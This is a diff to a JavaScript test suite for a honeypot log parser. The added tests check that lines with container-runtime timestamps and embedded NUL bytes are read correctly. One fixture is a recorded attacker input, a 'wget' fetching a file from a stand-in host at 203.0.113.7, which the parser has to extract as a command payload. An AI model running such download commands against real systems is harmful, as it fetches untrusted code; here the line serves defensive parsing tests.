@@ -67,6 +67,11 @@ describe('a file whose format nobody named', () => {
     assert.deepEqual(told(await entriesOf(gzipSync(lines))), wanted);
     const array = JSON.stringify([cowrie, opencanary, native, stranger], null, 2);
     assert.deepEqual(told(await entriesOf(array)), wanted);
+    const fromRuntime = lines
+      .split('\n')
+      .map((line) => `2026-08-21T10:15:31.123456789Z stdout F ${line}`)
+      .join('\n');
+    assert.deepEqual(told(await entriesOf(fromRuntime)), wanted);
     const [, , , last] = await entriesOf(lines);
     assert.match(last?.unknown ?? '', /type Newpot/);
   });
@@ -173,6 +178,22 @@ describe('a file whose format nobody named', () => {
       'lines connection.closed',
       'skipped: is a message from the sensor about itself',
     ]);
+  });
+
+  it('reads to the end of a line that has a NUL in it, and over NULs before one', async () => {
+    const line =
+      "2017-03-31 00:02:21,043 - __main__ - INFO - RECEIVED INPUT 203.0.113.9 : ['wget\0 http://203.0.113.7/x']";
+    for (const size of [1, 7, 1000]) {
+      const entries = await entriesOf(
+        `${'\0'.repeat(40)}${line}\n\0\0${line.replace('21,043', '22,043')}\n`,
+        size,
+      );
+      assert.deepEqual(told(entries), ['lines command.run', 'lines command.run']);
+      for (const entry of entries) {
+        assert.ok(entry.status === 'draft');
+        assert.match(entry.draft.payload, /wget.*203\.0\.113\.7\/x/s);
+      }
+    }
   });
 
   it('says of what is no log that it is none, line by line, and never throws', async () => {
